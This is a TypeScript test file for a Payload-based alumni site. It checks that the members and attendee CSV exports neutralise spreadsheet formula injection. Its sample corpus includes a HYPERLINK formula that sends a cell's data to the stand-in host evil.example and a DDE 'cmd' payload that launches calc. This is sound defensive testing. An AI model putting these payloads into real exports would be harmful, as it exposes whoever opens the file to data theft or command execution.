/**
 * CSV cells (docs/security.md, "CSV cells"): no CSV the site writes carries a cell that a
 * spreadsheet would run as a formula. Every writer goes through `writeCsv`
 * (src/security/csvCells.ts) — the source is searched for any other use of the CSV writer
 * library and for every caller of `writeCsv`, and each caller is exercised here through its
 * route with members whose names, titles and organisations hold a corpus of formula-like values.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs'
import path from 'node:path'

import { parse } from 'csv-parse/sync'
import type { Payload } from 'payload'
import { beforeAll, describe, expect, it } from 'vitest'

import type { Alumnus, Event, User } from '../../payload-types'
import { csvCell } from '../../src/security/csvCells'
import { type Account, createAlumnus, createContent, createRegistration, createStaff } from '../helpers/fixtures'
import { getTestPayload } from '../helpers/payload'

/** What spreadsheets read as formulas, and look-alikes that must stay as they are. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&E2,"詳細")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+81 3 0000 0000',
  '+SUM(1,1)',
  '-2+3',
  '-',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=',
]
const HARMLESS = ['Sato Ayumi', '佐藤 あゆみ', 'Head of R&D', '1+1', ' =1+1', '＝1+1', "'=already quoted"]

/** Every `.ts` file under a folder. */
const sources = (dir: string): string[] =>
  readdirSync(dir).flatMap((name) => {
    const file = path.join(dir, name)
    if (statSync(file).isDirectory()) return sources(file)
    return /\.tsx?$/.test(name) ? [file] : []
  })

/** The CSV writers this test exercises, by the file that calls `writeCsv`. */
const EXERCISED = ['src/events/attendees.ts', 'src/roster/membersCsv.ts']

let payload: Payload
let staff: Account<User>
let event: Event
const people: Alumnus[] = []

beforeAll(async () => {
  payload = await getTestPayload()
  staff = await createStaff(payload, 'admin')
  event = await createContent(payload, 'events', 'public')
  const values = [...FORMULAS, ...HARMLESS]
  for (const [i, value] of values.entries()) {
    const { doc } = await createAlumnus(payload, {
      status: 'approved',
      name: value,
      nameKana: value,
      title: value,
      currentOrganization: value,
      departments: [value],
    })
    people.push(doc)
    if (i < 12) await createRegistration(payload, event, doc, 'confirmed')
  }
})

/** Every cell of a CSV, without the byte-order mark. */
const cells = (csv: string): string[] =>
  (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat()

const expectNoFormula = (csv: string, what: string) => {
  for (const cell of cells(csv)) expect(cell, `${what}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/)
}

describe('CSV cells', () => {
  it('one function writes every CSV: nothing else uses the CSV writer, and each caller of it is exercised below', () => {
    const root = path.resolve(__dirname, '../..')
    const files = [...sources(path.join(root, 'src')), ...sources(path.join(root, 'collections'))].map((file) =>
      path.relative(root, file),
    )
    const writers = files.filter((file) => /csv-stringify/.test(readFileSync(path.join(root, file), 'utf8')))
    expect(writers).toEqual(['src/security/csvCells.ts'])
    const callers = files.filter(
      (file) => file !== 'src/security/csvCells.ts' && /\bwriteCsv\(/.test(readFileSync(path.join(root, file), 'utf8')),
    )
    expect(callers.sort()).toEqual(EXERCISED)
  })

  it('a cell that begins like a formula is written as text; other text as it is', () => {
    for (const value of FORMULAS) expect(csvCell(value)).toBe(`'${value}`)
    for (const value of HARMLESS) expect(csvCell(value)).toBe(value)
    expect(csvCell(null)).toBe('')
    expect(csvCell(-1)).toBe("'-1")
  })

  it('the members export (GET /api/alumni/export.csv): names, titles, organisations and departments as text', async () => {
    const res = await staff.api.fetch('GET', '/alumni/export.csv')
    expect(res.status).toBe(200)
    const csv = await res.text()
    expectNoFormula(csv, 'members export')
    for (const value of FORMULAS) expect(cells(csv)).toContain(`'${value}`)
    for (const value of HARMLESS.filter((v) => v.trim() === v)) expect(cells(csv)).toContain(value)
  })

  it('the attendee export (GET /api/events/:id/attendees.csv): names as text', async () => {
    const res = await staff.api.fetch('GET', `/events/${event.id}/attendees.csv`)
    expect(res.status).toBe(200)
    const csv = await res.text()
    expectNoFormula(csv, 'attendee export')
    for (const value of FORMULAS) expect(cells(csv)).toContain(`'${value}`)
  })
})
